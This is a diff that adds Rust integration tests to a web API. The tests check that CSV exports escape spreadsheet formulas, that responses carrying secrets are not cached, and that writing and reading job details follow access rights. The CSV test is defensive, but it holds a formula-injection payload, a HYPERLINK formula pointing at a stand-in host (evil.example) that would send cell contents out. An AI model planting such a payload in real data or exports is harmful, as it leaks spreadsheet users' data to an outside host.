@@ -114,3 +114,86 @@ async fn the_feed_follows_the_rights_and_is_recorded() {
     assert_eq!(audits.len(), 1, "one record for a reader's reading, not one per poll: {everything}");
     assert_eq!(audits[0]["name"], "events as feed");
 }
+
+/// A login attempt needs no account, so its username is anyone's text: in a CSV export, no
+/// cell may start a formula. NDJSON keeps it as it was.
+#[tokio::test]
+async fn csv_exports_carry_no_formulas() {
+    let app = spawn_app().await;
+    let attack = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
+    let login = json!({"username": attack, "password": "x"}).to_string();
+    assert_eq!(app.post_raw("/api/v1/login", "", login).await.0, 401);
+    let csv = app.text_as(ALICE, "/api/v1/export?all_users=true&format=csv").await;
+    let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
+    let mut cells = 0;
+    for record in reader.records() {
+        for cell in record.unwrap().iter() {
+            cells += 1;
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell would run: {cell:?}");
+        }
+    }
+    assert!(cells > 0 && csv.contains("'=HYPERLINK("), "{csv}");
+    let ndjson = app.text_as(ALICE, "/api/v1/export?all_users=true").await;
+    assert!(ndjson.contains(r#""name":"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")""#), "{ndjson}");
+}
+
+/// Answers carrying secrets or details are never cached.
+#[tokio::test]
+async fn secrets_and_details_are_not_cached() {
+    let app = spawn_app().await;
+    let (_, ids) = app.post("/api/v1/events", json!([edited("alice", "e", "m\ndetail")])).await;
+    let id = ids["ids"][0].clone();
+    let account = json!({"username": "ada", "roles": ["admin"], "password": "ada-secret"}).to_string();
+    app.post_raw("/api/v1/accounts", ALICE, account).await;
+    let login = json!({"username": "ada", "password": "ada-secret", "token": {"name": "t", "scopes": ["read"]}});
+    let answers = [
+        app.client.post(format!("{}/api/v1/login", app.base)).json(&login),
+        app.client.get(format!("{}/api/v1/events/{id}", app.base)).bearer_auth(ALICE),
+        app.client.get(format!("{}/api/v1/export?all_users=true", app.base)).bearer_auth(ALICE),
+        app.client.get(format!("{}/api/v1/feed", app.base)).bearer_auth(ALICE),
+        app.client.get(format!("{}/api/v1/events?all_users=true", app.base)).bearer_auth(ALICE),
+    ];
+    for request in answers {
+        let response = request.send().await.unwrap();
+        let url = response.url().clone();
+        assert_eq!(response.headers().get("cache-control").map(|v| v.to_str().unwrap()), Some("no-store"), "{url}");
+    }
+}
+
+/// Following jobs (`jobs`, as an operator or a read-scoped token has it) is not writing into
+/// them: reports and log lines come from the platform (`ingest`) or the job's submitter. Leaf
+/// messages and logs are details of the submitter's entries.
+#[tokio::test]
+async fn job_writes_need_ingest_or_the_submitter_and_job_details_follow_the_rights() {
+    let app = spawn_app().await;
+    let (_, alices) = app.post("/api/v1/jobs", json!({"name": "archive", "targets": ["e1", "e2"]})).await;
+    let alices = alices["id"].as_i64().unwrap();
+    let status = json!({"status": "failed", "message": "timeout\ncommunity s3cret rejected"}).to_string();
+    let log = json!({"lines": ["pushed community s3cret"]}).to_string();
+    let report_path = format!("/api/v1/jobs/{alices}/targets/e1/status");
+    let log_path = format!("/api/v1/jobs/{alices}/log");
+    let (code, body) = app.post_raw(&report_path, OPERATOR, status.clone()).await;
+    assert_eq!((code, error_code(&body)), (403, "forbidden"), "{body}");
+    assert_eq!(app.post_raw(&log_path, OPERATOR, log.clone()).await.0, 403);
+    let ingest = ada_token(&app, &["ingest"]).await;
+    assert_eq!(app.post_raw(&report_path, &ingest, status.clone()).await.0, 200, "the platform reports");
+    assert_eq!(app.post_raw(&log_path, &ingest, log.clone()).await.0, 201);
+
+    let (_, olgas) =
+        app.post_raw("/api/v1/jobs", OPERATOR, json!({"name": "mine", "targets": ["e9"]}).to_string()).await;
+    let olgas = olgas["id"].as_i64().unwrap();
+    let own_report = app.post_raw(&format!("/api/v1/jobs/{olgas}/targets/e9/status"), OPERATOR, status).await;
+    assert_eq!(own_report.0, 200, "a submitter reports on their own job: {}", own_report.1);
+    assert_eq!(app.post_raw(&format!("/api/v1/jobs/{olgas}/log"), OPERATOR, log).await.0, 201);
+
+    let (_, seen) = app.get_as(OPERATOR, &format!("/api/v1/jobs/{alices}")).await;
+    let leaf = seen["leaves"].as_array().unwrap().iter().find(|l| l["target"] == "e1").unwrap().clone();
+    assert_eq!(leaf["message"], "timeout", "another's leaf message: line 1 only");
+    let (code, body) = app.get_as(OPERATOR, &log_path).await;
+    assert_eq!((code, error_code(&body)), (403, "forbidden"), "another's job log is a detail: {body}");
+    let (_, own) = app.get_as(OPERATOR, &format!("/api/v1/jobs/{olgas}/log")).await;
+    assert_eq!(own["entries"][0]["text"], "pushed community s3cret", "one's own job log");
+    let (_, full) = app.get(&format!("/api/v1/jobs/{alices}")).await;
+    let leaf = full["leaves"].as_array().unwrap().iter().find(|l| l["target"] == "e1").unwrap().clone();
+    assert_eq!(leaf["message"], "timeout\ncommunity s3cret rejected", "details_all sees it whole");
+}
